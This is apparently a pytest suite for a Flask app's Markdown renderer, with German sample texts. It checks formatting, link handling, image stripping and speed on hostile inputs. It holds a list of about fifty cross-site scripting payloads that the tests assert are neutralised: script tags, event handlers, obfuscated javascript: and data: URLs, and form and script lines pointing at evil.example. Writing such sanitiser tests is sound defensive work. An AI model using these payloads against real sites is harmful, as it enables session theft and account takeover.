"""What people write with a few marks: it looks as they meant it, and nothing of it runs or calls home."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from flask import Flask
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app import markup
from app.markup import html, init_markup, plain

SECONDS = 30.0
"""Each takes less than one; without a bound they take minutes, however busy the machine is."""


class Seen(HTMLParser):
    """Every element and attribute that a browser would make of it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def check_is_harmless(text: str) -> None:
    seen = Seen(html(text))
    assert seen.tags <= markup.TAGS
    assert seen.attributes <= {("a", "href"), ("a", "rel"), ("ol", "start"), ("li", "value")}
    assert {urlsplit(address).scheme for address in seen.addresses} <= markup.SCHEMES


# --- what people mean


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("Kim holt Stühle.\nAlex holt Tische.", "<p>Kim holt Stühle.<br>\nAlex holt Tische.</p>"),
        ("Eins\n\nZwei", "<p>Eins</p>\n<p>Zwei</p>"),
        ("**wichtig** und *leise*", "<p><strong>wichtig</strong> und <em>leise</em></p>"),
        ("~~abgelehnt~~ angenommen", "<p><s>abgelehnt</s> angenommen</p>"),
        ("Da:\n- Kim\n- Alex", "<p>Da:</p>\n<ul>\n<li>Kim</li>\n<li>Alex</li>\n</ul>"),
        ("> so stand es da", "<blockquote>\n<p>so stand es da</p>\n</blockquote>"),
        ("Sprecher*innen und Genoss*innen", "<p>Sprecher*innen und Genoss*innen</p>"),
        ("**Sprecher*innen** und *Alex*", "<p><strong>Sprecher*innen</strong> und <em>Alex</em></p>"),
        ("    eingerückt", "<p>eingerückt</p>"),
        ("Ergebnis\n---\nEnde", "<p>Ergebnis</p>\n<hr>\n<p>Ende</p>"),
        ("3 < 5 & 7 > 2", "<p>3 &lt; 5 &amp; 7 &gt; 2</p>"),
        ("[Info]: bald", "<p>[Info]: bald</p>"),
        ("", ""),
    ],
)
def test_a_text_looks_as_it_was_meant(typed, shown):
    assert html(typed).strip() == shown


def test_the_days_of_a_list_stay_the_days_that_were_typed():
    shown = html("12. März: Plenum\n15. April: Sommerfest")
    assert '<li value="12">März: Plenum</li>' in shown
    assert '<li value="15">April: Sommerfest</li>' in shown


def test_headings_stay_below_those_of_the_page():
    assert html("# Eins\n### Drei\n###### Sechs").split("\n")[:3] == [
        "<h4>Eins</h4>", "<h6>Drei</h6>", "<h6>Sechs</h6>"
    ]  # fmt: skip
    assert html("# Eins\n## Zwei", top=2).strip() == "<h2>Eins</h2>\n<h3>Zwei</h3>"
    assert html("## Eins\n### Zwei", top=3).strip() == "<h3>Eins</h3>\n<h4>Zwei</h4>"  # none is left out


@pytest.mark.parametrize(
    "typed",
    [
        "[Papier](https://demo.example/a?b=1)",
        "<https://demo.example/a?b=1>",
        "(siehe https://demo.example/a?b=1).",
    ],
)
def test_an_address_becomes_a_link_that_tells_the_other_side_nothing(typed):
    assert '<a href="https://demo.example/a?b=1" rel="noopener noreferrer">' in html(typed)


def test_a_picture_becomes_a_link_so_that_no_visitor_is_told_on():
    assert html("![Plakat](https://demo.example/a.png)").strip() == (
        '<p><a href="https://demo.example/a.png" rel="noopener noreferrer">Plakat</a></p>'
    )
    assert "<a " not in html("![](relativ.png)")
    inside = html("[![Plakat](https://demo.example/a.png)](https://demo.example/)")
    assert inside.count("<a ") == 1
    assert ">Plakat</a>" in inside


def test_the_filter_is_safe_markup_for_templates():
    app = Flask("app")
    init_markup(app)
    assert app.jinja_env.from_string("{{ '**a** <b>' | markdown }}").render().strip() == (
        "<p><strong>a</strong> &lt;b&gt;</p>"
    )


# --- what is not meant well

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><input name=csrf_token></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/abmelden)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x\" onerror=\"alert(1)](https://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "<https://a.example/'onmouseover='alert(1)>",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "**<b onclick=alert(1)>**",
    "[a[b[c](x)](javascript:alert(1))](data:x)",
    "<a\0href=javascript:alert(1)>x</a>",
    "java\0script:alert(1)",
    "\ud800<script>\udfff",
    "\u2028<script>alert(1)</script>\u202e",
]  # fmt: skip


@pytest.mark.parametrize("text", PAYLOADS)
def test_nothing_that_runs_comes_through(text):
    check_is_harmless(text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_second_lock_would_hold_if_the_first_did_not(text, monkeypatch):
    parser = markup._parser()
    parser.enable(["html_block", "html_inline"])
    parser.options["html"] = True
    monkeypatch.setattr(type(parser), "validateLink", lambda _parser, _url: True)
    monkeypatch.setattr(markup, "_PARSER", parser)
    check_is_harmless(text)


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "[x](javascript:alert(1))", "[x](/abmelden)"])
def test_what_is_not_allowed_stays_the_text_that_was_typed(text):
    assert html(text).unescape().strip() == f"<p>{text}</p>"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab*_~`[]()<>!#>-+1.:/\\\"'&;\n\t \0é"), max_size=120))
@example("[a](https://b)" * 3)
def test_no_mix_of_marks_is_dangerous_or_breaks(text):
    check_is_harmless(text)
    plain(text)


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "[![", "](", "[a](", "[]", ">", "> ", "> a\n", "- ", "- a\n", "* ", "*", "**a ", "*_", "_", "~", "`",
     "`a", "<", "<a ", "&", "&#1;", "\\", "#", "\n", "a\n", "1. ", "0. a\n", "\0", "https://", "http://..", "("],
)  # fmt: skip
def test_a_text_made_to_be_slow_is_not(unit):
    for length in (markup.LONGEST_MARKED, 100_000):
        text = (unit * length)[:length]
        start = time.process_time()
        html(text)
        assert time.process_time() - start < SECONDS


@pytest.mark.parametrize(
    "text",
    ["> " * 40 + "tief", "- " * 40 + "tief", "> - " * 40 + "tief", "[" * 5_000 + "tief", "x " * 30_000 + "tief",
     "\n".join("  " * level + "- a" for level in range(60)) + "tief"],
    ids=["quotes", "lists", "both", "brackets", "long", "stairs"],
)  # fmt: skip
def test_what_is_too_deep_or_too_long_is_still_there(text):
    assert "tief" in html(text)
    assert "tief" in plain(text)


def test_a_text_that_is_too_long_for_marks_keeps_its_lines():
    long = "**a** <b>\nzwei\n\n" + "x" * markup.LONGEST_MARKED
    assert html(long).startswith("<p>**a** &lt;b&gt;<br>\nzwei</p><p>xxx")


# --- without marks


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        ("# Haushalt\nKim stellt den **Entwurf** vor.", "Haushalt\n\nKim stellt den Entwurf vor."),
        ("Da:\n- Kim\n- Alex\n  - halb\n\nDanach", "Da:\n- Kim\n- Alex\n  - halb\n\nDanach"),
        ("12. März\n15. April", "12. März\n15. April"),
        ("~~abgelehnt~~ angenommen", "angenommen"),
        ("[Papier](https://demo.example/a)", "Papier (https://demo.example/a)"),
        ("<https://demo.example/a> <kim@demo.example>", "https://demo.example/a kim@demo.example"),
        ("Sprecher*innen, 3 < 5 &amp; `so`", "Sprecher*innen, 3 < 5 & so"),
        ("Eins\nzwei\n\n---\n\n```\nx  y\n```", "Eins\nzwei\n\n—\n\nx  y"),
        ("", ""),
    ],
)
def test_a_text_without_its_marks_can_be_read(typed, read):
    assert plain(typed) == read
